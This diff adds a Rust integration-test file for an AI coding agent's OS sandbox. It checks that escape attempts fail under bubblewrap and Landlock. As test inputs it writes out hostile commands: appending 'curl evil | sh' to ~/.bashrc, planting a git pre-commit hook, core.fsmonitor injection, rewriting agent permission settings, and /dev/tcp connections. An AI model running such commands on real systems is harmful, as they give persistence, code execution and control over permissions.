@@ -1,0 +1,683 @@
+//! The OS sandbox (docs/sandbox.md), for real: commands run through
+//! riot-runtime's sandboxed runner with the built `riot` as the helper in
+//! front of each (so only the sandbox stands in the way — no permission
+//! chain), under bubblewrap and under Landlock + seccomp alone (bwrap
+//! hidden from `PATH`); then `riot sandbox check`, `riot config show`,
+//! `riot permissions check` and `riot exec` with the sandbox on and off.
+//!
+//! The file system and a loopback server prove each escape failed. These
+//! tests skip (saying why) only where the machine cannot sandbox at all:
+//! no user namespaces for bubblewrap, no Landlock in the kernel.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code
+#![allow(clippy::disallowed_methods)] // black-box tests use real files and processes
+#![allow(clippy::print_stderr)] // a skipped test says why
+
+mod support;
+
+use std::ffi::OsString;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use riot_protocol::{
+    CaptureLimit, ProcessOutput, ProcessRunner, ProcessSpec, Sandbox, SandboxMechanism,
+    SandboxPolicy,
+};
+use riot_runtime::{RealProcessRunner, RealSandbox};
+use riot_testkit::{MockServer, Reply, Script, Wire};
+use serde_json::{Value, json};
+use support::{World, bodies, processes_with, run, tool_call};
+use tokio_util::sync::CancellationToken;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Mech {
+    Bubblewrap,
+    LandlockOnly,
+}
+
+/// `PATH` with bubblewrap (the process's own) or without it (an empty
+/// directory: the sandbox itself needs nothing from `PATH`).
+fn path_for(mech: Mech, empty: &Path) -> Option<OsString> {
+    match mech {
+        Mech::Bubblewrap => std::env::var_os("PATH"),
+        Mech::LandlockOnly => Some(empty.as_os_str().to_owned()),
+    }
+}
+
+/// A project (with a git repository, `.riot/settings.json`), a place
+/// outside it, and a home with a `.bashrc`.
+struct Place {
+    _root: tempfile::TempDir,
+    project: PathBuf,
+    outside: PathBuf,
+    home: PathBuf,
+    empty: PathBuf,
+}
+
+impl Place {
+    fn new() -> Self {
+        // Not under /tmp: the sandbox gives commands a private /tmp, and
+        // an escape must meet the read-only disk, not a hidden directory.
+        let root = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+        let base = root.path().canonicalize().unwrap();
+        let project = base.join("project");
+        let outside = base.join("outside");
+        let home = base.join("home");
+        let empty = base.join("empty-path");
+        for dir in [&project, &outside, &home, &empty] {
+            std::fs::create_dir_all(dir).unwrap();
+        }
+        std::fs::write(home.join(".bashrc"), "# the person's\n").unwrap();
+        std::fs::write(project.join("a.txt"), "alpha\n").unwrap();
+        std::fs::create_dir_all(project.join(".riot")).unwrap();
+        std::fs::write(project.join(".riot/settings.json"), "{}\n").unwrap();
+        git(&project, &["init", "-q"]);
+        Self {
+            _root: root,
+            project,
+            outside,
+            home,
+            empty,
+        }
+    }
+
+    fn policy(&self) -> SandboxPolicy {
+        SandboxPolicy::for_project(&self.project, Some(&self.home))
+    }
+}
+
+fn git(dir: &Path, args: &[&str]) -> String {
+    let out = std::process::Command::new("git")
+        .args(args)
+        .current_dir(dir)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "git {args:?}: {out:?}");
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// The sandboxed runner for `policy`, or `None` (with the reason printed)
+/// when this machine cannot enforce `mech`.
+fn sandboxed(place: &Place, mech: Mech, policy: &SandboxPolicy) -> Option<Arc<dyn ProcessRunner>> {
+    let sandbox = RealSandbox::with_path(env!("CARGO_BIN_EXE_riot"), path_for(mech, &place.empty));
+    let status = sandbox.status(policy);
+    let wanted = match mech {
+        Mech::Bubblewrap => SandboxMechanism::BubblewrapLandlockSeccomp,
+        Mech::LandlockOnly => SandboxMechanism::LandlockSeccomp,
+    };
+    if !status.enforced || status.mechanism != wanted {
+        // Skip only where the machine cannot: no user namespaces for
+        // bubblewrap, no Landlock in the kernel. A missing bwrap is a
+        // missing install step (.ci/run installs bubblewrap).
+        let why = format!("{status:?}");
+        let cannot = match mech {
+            Mech::Bubblewrap => why.contains("cannot make its namespaces"),
+            Mech::LandlockOnly => why.contains("does not enforce Landlock"),
+        };
+        assert!(cannot, "{wanted:?} should be enforced here: {why}");
+        eprintln!("skipped: this machine cannot enforce {wanted:?}: {why}");
+        return None;
+    }
+    let inner: Arc<dyn ProcessRunner> = Arc::new(RealProcessRunner::new());
+    Some(
+        sandbox
+            .wrap(inner, policy)
+            .expect("an enforced sandbox wraps"),
+    )
+}
+
+/// `bash -c script` in the project, as the Bash tool runs it.
+async fn sh(runner: &Arc<dyn ProcessRunner>, place: &Place, script: &str) -> ProcessOutput {
+    let spec = ProcessSpec {
+        program: "bash".into(),
+        args: vec!["-c".into(), script.into()],
+        cwd: place.project.clone(),
+        env_set: vec![("HOME".into(), place.home.to_string_lossy().into_owned())],
+        env_remove: Vec::new(),
+        timeout_ms: Some(120_000),
+        capture: CaptureLimit::default(),
+        stdin: None,
+    };
+    runner
+        .run(spec, CancellationToken::new(), None)
+        .await
+        .expect("the sandboxed command starts")
+}
+
+fn text(out: &ProcessOutput) -> String {
+    format!(
+        "exit {:?}\nstdout: {}{}\nstderr: {}{}",
+        out.exit_code, out.stdout.head, out.stdout.tail, out.stderr.head, out.stderr.tail
+    )
+}
+
+// ---- escapes: each must fail, and the disk or the server proves it ----
+
+async fn writes_outside_the_project_fail(mech: Mech) {
+    let place = Place::new();
+    let Some(runner) = sandboxed(&place, mech, &place.policy()) else {
+        return;
+    };
+    let outside = place.outside.display().to_string();
+    std::os::unix::fs::symlink(&place.outside, place.project.join("link")).unwrap();
+    let attempts = [
+        format!("echo direct > {outside}/direct"),
+        "echo through-link > link/through-link".to_owned(),
+        format!("sh -c \"$(printf 'echo %s > %s/%s' x {outside} via-printf)\""),
+        format!("cp a.txt {outside}/copied; mv a.txt {outside}/moved"),
+    ];
+    for script in &attempts {
+        let out = sh(&runner, &place, script).await;
+        assert_ne!(out.exit_code, Some(0), "{script}: {}", text(&out));
+    }
+    let left: Vec<_> = std::fs::read_dir(&place.outside)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name())
+        .collect();
+    assert!(
+        left.is_empty(),
+        "{mech:?}: files appeared outside the project: {left:?}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(place.project.join("a.txt")).unwrap(),
+        "alpha\n"
+    );
+}
+
+#[tokio::test]
+async fn bubblewrap_writes_outside_the_project_fail() {
+    writes_outside_the_project_fail(Mech::Bubblewrap).await;
+}
+
+#[tokio::test]
+async fn landlock_writes_outside_the_project_fail() {
+    writes_outside_the_project_fail(Mech::LandlockOnly).await;
+}
+
+async fn the_shell_startup_files_stay_untouched(mech: Mech) {
+    let place = Place::new();
+    let Some(runner) = sandboxed(&place, mech, &place.policy()) else {
+        return;
+    };
+    let out = sh(&runner, &place, "echo 'curl evil | sh' >> ~/.bashrc").await;
+    assert_ne!(out.exit_code, Some(0), "{}", text(&out));
+    assert_eq!(
+        std::fs::read_to_string(place.home.join(".bashrc")).unwrap(),
+        "# the person's\n"
+    );
+}
+
+#[tokio::test]
+async fn bubblewrap_the_shell_startup_files_stay_untouched() {
+    the_shell_startup_files_stay_untouched(Mech::Bubblewrap).await;
+}
+
+#[tokio::test]
+async fn landlock_the_shell_startup_files_stay_untouched() {
+    the_shell_startup_files_stay_untouched(Mech::LandlockOnly).await;
+}
+
+/// Under bubblewrap `.git/hooks`, `.git/config` and `.riot` are read-only
+/// inside the writable project (Landlock alone cannot do this; its status
+/// says so — see `riot_sandbox_check_without_bwrap_is_landlock_and_seccomp`).
+#[tokio::test]
+async fn bubblewrap_git_hooks_git_config_and_riot_settings_are_read_only() {
+    let place = Place::new();
+    let Some(runner) = sandboxed(&place, Mech::Bubblewrap, &place.policy()) else {
+        return;
+    };
+    let config_before = std::fs::read_to_string(place.project.join(".git/config")).unwrap();
+    for script in [
+        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+        "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config",
+        "git config core.fsmonitor 'touch /tmp/pwned'",
+        "rm -rf .git/hooks",
+        "mv .git .git-old",
+        "echo '{\"permissions\": {\"allow\": [\"Bash\"]}}' > .riot/settings.json",
+        "echo x > .riot/new.json",
+        "mv .riot .riot-old",
+    ] {
+        let out = sh(&runner, &place, script).await;
+        assert_ne!(out.exit_code, Some(0), "{script}: {}", text(&out));
+    }
+    assert!(!place.project.join(".git/hooks/pre-commit").exists());
+    assert!(place.project.join(".git/hooks").is_dir());
+    assert_eq!(
+        std::fs::read_to_string(place.project.join(".git/config")).unwrap(),
+        config_before
+    );
+    assert_eq!(
+        std::fs::read_to_string(place.project.join(".riot/settings.json")).unwrap(),
+        "{}\n"
+    );
+    assert!(!place.project.join(".riot/new.json").exists());
+    assert!(!place.project.join(".git-old").exists() && !place.project.join(".riot-old").exists());
+}
+
+async fn a_loopback_server_sees_no_connection(mech: Mech) {
+    let place = Place::new();
+    let Some(runner) = sandboxed(&place, mech, &place.policy()) else {
+        return;
+    };
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    for script in [
+        format!("echo hello > /dev/tcp/127.0.0.1/{port}"),
+        format!(
+            "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'hi')\""
+        ),
+    ] {
+        let out = sh(&runner, &place, &script).await;
+        assert_ne!(out.exit_code, Some(0), "{script}: {}", text(&out));
+    }
+    match listener.accept() {
+        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+        other => panic!("{mech:?}: the server saw a connection: {other:?}"),
+    }
+}
+
+#[tokio::test]
+async fn bubblewrap_a_loopback_server_sees_no_connection() {
+    a_loopback_server_sees_no_connection(Mech::Bubblewrap).await;
+}
+
+#[tokio::test]
+async fn landlock_a_loopback_server_sees_no_connection() {
+    a_loopback_server_sees_no_connection(Mech::LandlockOnly).await;
+}
+
+async fn nothing_outlives_the_call(mech: Mech, marker: &str) {
+    let place = Place::new();
+    let Some(runner) = sandboxed(&place, mech, &place.policy()) else {
+        return;
+    };
+    // Detached three ways: in the background, in a new session, and
+    // with nohup; each would outlive a plain `bash -c`.
+    let script = format!(
+        "sleep {marker}1 & setsid sleep {marker}2 & nohup sleep {marker}3 >/dev/null 2>&1 & echo started"
+    );
+    let out = sh(&runner, &place, &script).await;
+    assert_eq!(out.exit_code, Some(0), "{}", text(&out));
+    // The call has returned: give the kernel a moment to reap, then look.
+    let mut left = Vec::new();
+    for _ in 0..50 {
+        left = processes_with(&format!("sleep {marker}"));
+        if left.is_empty() {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+    }
+    assert!(
+        left.is_empty(),
+        "{mech:?}: still running after the call: {left:?}"
+    );
+}
+
+#[tokio::test]
+async fn bubblewrap_nothing_outlives_the_call() {
+    nothing_outlives_the_call(Mech::Bubblewrap, "81817").await;
+}
+
+#[tokio::test]
+async fn landlock_nothing_outlives_the_call() {
+    nothing_outlives_the_call(Mech::LandlockOnly, "82827").await;
+}
+
+#[tokio::test]
+async fn bubblewrap_a_path_denied_to_reading_is_hidden() {
+    let place = Place::new();
+    std::fs::create_dir_all(place.project.join("secrets")).unwrap();
+    std::fs::write(place.project.join("secrets/key"), "TOP-SECRET-VALUE\n").unwrap();
+    std::fs::write(place.outside.join("token"), "OTHER-SECRET\n").unwrap();
+    let mut policy = place.policy();
+    policy.hidden = vec![place.project.join("secrets"), place.outside.join("token")];
+    let Some(runner) = sandboxed(&place, Mech::Bubblewrap, &policy) else {
+        return;
+    };
+    let outside = place.outside.display();
+    let out = sh(
+        &runner,
+        &place,
+        &format!("cat secrets/key; cat {outside}/token; grep -r SECRET . {outside} ; true"),
+    )
+    .await;
+    let all = text(&out);
+    assert!(
+        !all.contains("TOP-SECRET-VALUE") && !all.contains("OTHER-SECRET"),
+        "{all}"
+    );
+    // Hidden, not destroyed.
+    assert_eq!(
+        std::fs::read_to_string(place.project.join("secrets/key")).unwrap(),
+        "TOP-SECRET-VALUE\n"
+    );
+}
+
+// ---- ordinary work succeeds inside ----
+
+async fn ordinary_work_succeeds(mech: Mech) {
+    let place = Place::new();
+    let Some(runner) = sandboxed(&place, mech, &place.policy()) else {
+        return;
+    };
+    let script = "set -e
+git status --short
+git add a.txt
+git -c user.name=Riot -c user.email=riot@example.invalid commit -q -m 'first commit'
+mkdir -p build && echo object > build/out.o
+echo scratch > \"$TMPDIR/scratch\" && cat \"$TMPDIR/scratch\"
+python3 -c \"print(open('a.txt').read().strip().upper())\"
+git status --short";
+    let out = sh(&runner, &place, script).await;
+    assert_eq!(out.exit_code, Some(0), "{}", text(&out));
+    assert_eq!(
+        out.stdout.head,
+        "?? .riot/\n?? a.txt\nscratch\nALPHA\n?? .riot/\n?? build/\n"
+    );
+    assert_eq!(
+        git(&place.project, &["log", "--format=%s"]),
+        "first commit\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(place.project.join("build/out.o")).unwrap(),
+        "object\n"
+    );
+}
+
+#[tokio::test]
+async fn bubblewrap_ordinary_work_succeeds() {
+    ordinary_work_succeeds(Mech::Bubblewrap).await;
+}
+
+#[tokio::test]
+async fn landlock_ordinary_work_succeeds() {
+    ordinary_work_succeeds(Mech::LandlockOnly).await;
+}
+
+/// `cargo test` of a crate made here, offline, with its target directory
+/// in the project.
+#[tokio::test]
+async fn bubblewrap_cargo_test_runs_inside() {
+    let place = Place::new();
+    let Some(runner) = sandboxed(&place, Mech::Bubblewrap, &place.policy()) else {
+        return;
+    };
+    std::fs::create_dir_all(place.project.join("tiny/src")).unwrap();
+    std::fs::write(
+        place.project.join("tiny/Cargo.toml"),
+        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
+    )
+    .unwrap();
+    std::fs::write(
+        place.project.join("tiny/src/lib.rs"),
+        "pub fn two() -> u32 { 2 }\n#[test]\nfn two_is_two() { assert_eq!(two(), 2); }\n",
+    )
+    .unwrap();
+    // The person's cargo and rustup homes, read-only inside.
+    let real_home = std::env::var("HOME").unwrap_or_default();
+    let cargo_home = std::env::var("CARGO_HOME").unwrap_or_else(|_| format!("{real_home}/.cargo"));
+    let rustup_home =
+        std::env::var("RUSTUP_HOME").unwrap_or_else(|_| format!("{real_home}/.rustup"));
+    let script = format!(
+        "cd tiny && CARGO_HOME={cargo_home} RUSTUP_HOME={rustup_home} CARGO_TARGET_DIR=$PWD/target cargo test --offline -q 2>&1"
+    );
+    let out = sh(&runner, &place, &script).await;
+    assert_eq!(out.exit_code, Some(0), "{}", text(&out));
+    assert!(out.stdout.head.contains("1 passed"), "{}", text(&out));
+    assert!(place.project.join("tiny/target").is_dir());
+}
+
+// ---- `riot sandbox check`, `config show`, `permissions check`, `exec` ----
+
+fn user_settings(world: &World, json: &str) {
+    std::fs::write(world.home.path().join("settings.json"), json).unwrap();
+}
+
+#[tokio::test]
+async fn riot_sandbox_check_with_bwrap_is_bubblewrap() {
+    let world = World::new();
+    let out = run(world.bare(&["sandbox", "check", "--json"])).await;
+    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
+    if value["enforced"] != true {
+        eprintln!("skipped: no sandbox on this machine: {value}");
+        assert_eq!(out.code, Some(1));
+        return;
+    }
+    assert_eq!(out.code, Some(0), "{out:?}");
+    assert_eq!(value["mechanism"], "bubblewrap-landlock-seccomp", "{value}");
+    assert_eq!(value["network"], false);
+    assert_eq!(value["writable"], json!([world.cwd()]));
+    assert_eq!(value["auto_allow"], true);
+    assert!(value.get("reason").is_none(), "{value}");
+
+    let out = run(world.bare(&["sandbox", "check"])).await;
+    assert_eq!(out.code, Some(0));
+    assert!(
+        out.stdout
+            .starts_with("enforced: yes, by bubblewrap-landlock-seccomp\nnetwork: off\n"),
+        "{}",
+        out.stdout
+    );
+}
+
+#[tokio::test]
+async fn riot_sandbox_check_without_bwrap_is_landlock_and_seccomp() {
+    let world = World::new();
+    let empty = tempfile::tempdir().unwrap();
+    let mut cmd = world.bare(&["sandbox", "check", "--json"]);
+    cmd.env("PATH", empty.path());
+    let out = run(cmd).await;
+    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
+    if value["enforced"] != true {
+        eprintln!("skipped: no Landlock on this kernel: {value}");
+        return;
+    }
+    assert_eq!(out.code, Some(0), "{out:?}");
+    assert_eq!(value["mechanism"], "landlock-seccomp", "{value}");
+    assert!(
+        value["reason"]
+            .as_str()
+            .unwrap()
+            .starts_with("bubblewrap is not installed (no `bwrap` on PATH; install the bubblewrap package), so Landlock and seccomp alone enforce the sandbox"),
+        "{value}"
+    );
+    let limits = value["limits"].as_array().unwrap();
+    assert!(
+        limits[0].as_str().unwrap().starts_with(
+            "`.git`, `.riot`, `.claude` and `.mcp.json` inside the project stay writable"
+        ),
+        "{value}"
+    );
+}
+
+#[tokio::test]
+async fn riot_sandbox_check_when_disabled_says_so_and_fails() {
+    let world = World::new();
+    user_settings(&world, r#"{"sandbox": {"enabled": false}}"#);
+    let out = run(world.bare(&["sandbox", "check", "--json"])).await;
+    assert_eq!(out.code, Some(1), "{out:?}");
+    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
+    assert_eq!(value["enforced"], false);
+    assert_eq!(value["mechanism"], "none");
+    assert_eq!(value["auto_allow"], false);
+    let reason = value["reason"].as_str().unwrap();
+    assert!(
+        reason.starts_with("the sandbox is turned off (\"sandbox\": {\"enabled\": false} in "),
+        "{reason}"
+    );
+
+    let out = run(world.bare(&["config", "show"])).await;
+    assert!(
+        out.stdout
+            .lines()
+            .any(|l| l.starts_with("sandbox")
+                && l.contains("not enforced: the sandbox is turned off")),
+        "{}",
+        out.stdout
+    );
+}
+
+#[tokio::test]
+async fn a_projects_settings_cannot_widen_the_sandbox() {
+    let world = World::new();
+    std::fs::create_dir_all(world.project.path().join(".riot")).unwrap();
+    std::fs::write(
+        world.project.path().join(".riot/settings.json"),
+        r#"{"sandbox": {"network": true, "writable": ["/"]}}"#,
+    )
+    .unwrap();
+    let out = run(world.bare(&["config", "show", "--json", "--trust-project"])).await;
+    assert_eq!(out.code, Some(0), "{out:?}");
+    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
+    assert_eq!(value["sandbox"], json!({}), "{value}");
+    let warnings = value["warnings"].to_string();
+    assert!(
+        warnings.contains("ignored \\\"sandbox.network\\\": true"),
+        "{warnings}"
+    );
+    assert!(
+        warnings.contains("ignored \\\"sandbox.writable\\\""),
+        "{warnings}"
+    );
+    if value["sandbox_status"]["enforced"] == true {
+        assert_eq!(value["sandbox_status"]["network"], false);
+        assert_eq!(value["sandbox_status"]["writable"], json!([world.cwd()]));
+    }
+}
+
+#[tokio::test]
+async fn permissions_check_shows_the_sandbox_reason() {
+    let world = World::new();
+    let check = |world: &World| {
+        world.bare(&[
+            "permissions",
+            "check",
+            "--tool",
+            "Bash",
+            "--input",
+            r#"{"command": "touch new.txt"}"#,
+        ])
+    };
+    let probe = run(world.bare(&["sandbox", "check", "--json"])).await;
+    let out = run(check(&world)).await;
+    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
+    if probe.code == Some(0) {
+        assert_eq!(value["decision"], "allow", "{value}");
+        assert_eq!(value["reason"]["kind"], "sandbox", "{value}");
+    } else {
+        eprintln!("skipped the enforced half: no sandbox here");
+    }
+    // Leaving the sandbox is always a question, even in bypass mode.
+    let out = run(world.bare(&[
+        "permissions",
+        "check",
+        "--permission-mode",
+        "bypass",
+        "--tool",
+        "Bash",
+        "--input",
+        r#"{"command": "curl -sS https://example.com", "dangerouslyDisableSandbox": true, "description": "fetch the page"}"#,
+    ]))
+    .await;
+    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
+    assert_eq!(value["decision"], "ask", "{value}");
+    assert_eq!(value["reason"]["kind"], "sandbox", "{value}");
+    assert_eq!(
+        value["reason"]["detail"],
+        "asks to run outside the OS sandbox: fetch the page"
+    );
+    // Off: the design's table, a question.
+    user_settings(&world, r#"{"sandbox": {"enabled": false}}"#);
+    let out = run(check(&world)).await;
+    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
+    assert_eq!(value["decision"], "ask", "{value}");
+    assert_eq!(value["reason"]["kind"], "unverifiable", "{value}");
+}
+
+fn touch_new() -> Reply {
+    tool_call(
+        "call_touch_1",
+        "Bash",
+        json!({"command": "touch new.txt", "description": "Create a file"}),
+    )
+}
+
+async fn server(replies: Vec<Reply>) -> MockServer {
+    MockServer::start(Script::new(Wire::Anthropic, replies))
+        .await
+        .unwrap()
+}
+
+/// Default mode, no `--allow`: the enforced sandbox lets `touch new.txt`
+/// run; with the sandbox off the same call is a question nobody can
+/// answer, so it is denied.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn exec_runs_a_command_unasked_only_while_the_sandbox_is_enforced() {
+    let world = World::new();
+    let probe = run(world.bare(&["sandbox", "check"])).await;
+    if probe.code != Some(0) {
+        eprintln!("skipped: no sandbox here: {}", probe.stdout);
+        return;
+    }
+    let server1 = server(vec![touch_new(), Reply::Text("Done.".into())]).await;
+    let out = run(world.exec(&server1, Wire::Anthropic, &["Make new.txt"])).await;
+    assert_eq!(out.code, Some(0), "{out:?}");
+    assert!(world.project.path().join("new.txt").exists(), "{out:?}");
+    let result = support::tool_result(&bodies(&server1)[1], "call_touch_1");
+    assert_ne!(result["is_error"], true, "{result}");
+
+    std::fs::remove_file(world.project.path().join("new.txt")).unwrap();
+    user_settings(&world, r#"{"sandbox": {"enabled": false}}"#);
+    let server2 = server(vec![touch_new(), Reply::Text("Done.".into())]).await;
+    let out = run(world.exec(&server2, Wire::Anthropic, &["Make new.txt"])).await;
+    assert_eq!(out.code, Some(0), "{out:?}");
+    assert!(
+        !world.project.path().join("new.txt").exists(),
+        "ran without asking: {out:?}"
+    );
+    let result = support::tool_result(&bodies(&server2)[1], "call_touch_1");
+    assert_eq!(result["is_error"], true, "{result}");
+    assert!(
+        result
+            .to_string()
+            .contains("nobody can answer permission questions in this session"),
+        "{result}"
+    );
+}
+
+/// Bypass mode lets a write outside the project through the permission
+/// chain; the sandbox stops it, and the model reads why.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn exec_in_bypass_mode_still_cannot_write_outside_the_project() {
+    let world = World::new();
+    let probe = run(world.bare(&["sandbox", "check"])).await;
+    if probe.code != Some(0) {
+        eprintln!("skipped: no sandbox here: {}", probe.stdout);
+        return;
+    }
+    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    let target = outside.path().canonicalize().unwrap().join("escaped.txt");
+    let call = tool_call(
+        "call_out_1",
+        "Bash",
+        json!({"command": format!("touch {}", target.display()), "description": "Write outside"}),
+    );
+    let server = server(vec![call, Reply::Text("Done.".into())]).await;
+    let out = run(world.exec(
+        &server,
+        Wire::Anthropic,
+        &["--permission-mode", "bypass", "Write outside"],
+    ))
+    .await;
+    assert_eq!(out.code, Some(0), "{out:?}");
+    assert!(!target.exists(), "the sandbox let a write outside through");
+    let result = support::tool_result(&bodies(&server)[1], "call_out_1");
+    assert_eq!(result["is_error"], true, "{result}");
+    assert!(
+        result.to_string().contains("Read-only file system"),
+        "{result}"
+    );
+}
